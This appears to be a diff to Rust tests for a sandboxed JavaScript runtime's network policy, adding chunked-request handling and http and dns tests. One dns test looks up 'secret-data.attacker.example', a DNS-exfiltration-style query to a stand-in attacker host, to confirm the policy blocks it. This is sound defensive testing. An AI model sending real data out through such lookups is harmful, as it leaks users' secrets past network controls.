@@ -79,6 +79,9 @@ fn serve(stream: TcpStream, heads: &Mutex<Vec<String>>, gone: &AtomicBool) {
     }
     let mut body = vec![0; length];
     let _ = reader.read_exact(&mut body);
+    if head.contains("transfer-encoding: chunked") {
+        body = read_chunked(&mut reader);
+    }
     heads.lock().push(head.clone());
     let path = head.split_whitespace().nth(1).unwrap_or("/").to_string();
     let mut out = stream;
@@ -125,6 +128,23 @@ fn serve(stream: TcpStream, heads: &Mutex<Vec<String>>, gone: &AtomicBool) {
             "content-type: text/plain\r\nx-served-by: test\r\n",
             b"hello",
         );
+    }
+}
+
+/// A chunked request body, decoded; the chunk sizes are recorded as `chunks: N` in the head.
+fn read_chunked(reader: &mut BufReader<TcpStream>) -> Vec<u8> {
+    let mut body = Vec::new();
+    loop {
+        let mut line = String::new();
+        if reader.read_line(&mut line).unwrap_or(0) == 0 {
+            return body;
+        }
+        let size = usize::from_str_radix(line.trim(), 16).unwrap_or(0);
+        let mut chunk = vec![0; size + 2];
+        if reader.read_exact(&mut chunk).is_err() || size == 0 {
+            return body;
+        }
+        body.extend_from_slice(&chunk[..size]);
     }
 }
 
@@ -433,4 +453,90 @@ async fn execs_without_network_report_no_net_stats() {
     assert_eq!(stdout(&out), "function function\n");
     assert_eq!(out.status.net, None);
     assert_eq!(out.status.error.map(|e| e.code), None::<ErrorCode>);
+}
+
+#[tokio::test]
+async fn http_get_streams_a_response() {
+    let server = Server::start();
+    let code = format!(
+        "const http = require('http');
+         http.get('{}', (res) => {{
+           let n = 0, chunks = 0;
+           res.on('data', (c) => {{ n += c.length; chunks++; }});
+           res.on('end', () => console.log(res.statusCode, res.statusMessage,
+             res.headers['content-length'], n, chunks > 1, Buffer.isBuffer(res.rawHeaders ? Buffer.alloc(0) : 0)));
+         }});",
+        server.url("/big/2000000")
+    );
+    let out = run_ok(node(&code).allow_net(server.rule())).await;
+    assert_eq!(stdout(&out), "200 OK 2000000 2000000 true true\n");
+}
+
+#[tokio::test]
+async fn http_request_streams_a_chunked_body() {
+    let server = Server::start();
+    let code = format!(
+        "const http = require('http');
+         const req = http.request({{ host: '127.0.0.1', port: {}, path: '/echo', method: 'POST',
+           headers: {{ 'content-type': 'text/plain' }} }}, (res) => {{
+           let text = '';
+           res.setEncoding('utf8');
+           res.on('data', (c) => {{ text += c; }});
+           res.on('end', () => console.log(res.statusCode, text));
+         }});
+         req.write('one,');
+         setTimeout(() => {{ req.write('two,'); req.end('three'); }}, 20);",
+        server.port
+    );
+    let out = run_ok(node(&code).allow_net(server.rule())).await;
+    assert_eq!(stdout(&out), "200 one,two,three\n");
+    let heads = server.heads.lock().join("");
+    assert!(heads.contains("transfer-encoding: chunked"), "{heads}");
+}
+
+#[tokio::test]
+async fn http_end_with_a_body_sends_its_length() {
+    let server = Server::start();
+    let code = format!(
+        "const http = require('http');
+         const req = http.request('{}', {{ method: 'PUT' }}, (res) => {{
+           res.setEncoding('utf8'); let t = ''; res.on('data', (c) => t += c);
+           res.on('end', () => console.log(t));
+         }});
+         req.end('whole body');",
+        server.url("/echo")
+    );
+    let out = run_ok(node(&code).allow_net(server.rule())).await;
+    assert_eq!(stdout(&out), "whole body\n");
+    let heads = server.heads.lock().join("");
+    assert!(heads.contains("content-length: 10"), "{heads}");
+}
+
+#[tokio::test]
+async fn a_denied_http_request_emits_a_typed_error() {
+    let server = Server::start();
+    let code = format!(
+        "const http = require('http');
+         http.get('{}', () => console.log('response?')).on('error', (e) =>
+           console.log(e.code, e.message.includes('denied by network policy')));",
+        server.url("/hello")
+    );
+    let out = run_ok(node(&code)).await;
+    assert_eq!(stdout(&out), "ECONNREFUSED true\n");
+    assert_eq!(server.accepted.load(Ordering::SeqCst), 0);
+}
+
+#[tokio::test]
+async fn dns_lookup_goes_through_the_policy() {
+    let code = "const dns = require('dns');
+        dns.lookup('localhost', { family: 4 }, (err, address, family) => {
+          console.log(err ? err.code : address, family);
+          dns.promises.lookup('secret-data.attacker.example').then(
+            (a) => console.log('resolved?', a), (e) => console.log(e.code));
+        });";
+    let out = run_ok(node(code).allow_net("localhost")).await;
+    assert_eq!(stdout(&out), "127.0.0.1 4\nECONNREFUSED\n");
+    // Without a policy no name reaches a resolver (`localhost` never does: it is loopback).
+    let out = run_ok(node(&code.replace("'localhost'", "'example.com'"))).await;
+    assert_eq!(stdout(&out), "ECONNREFUSED undefined\nECONNREFUSED\n");
 }
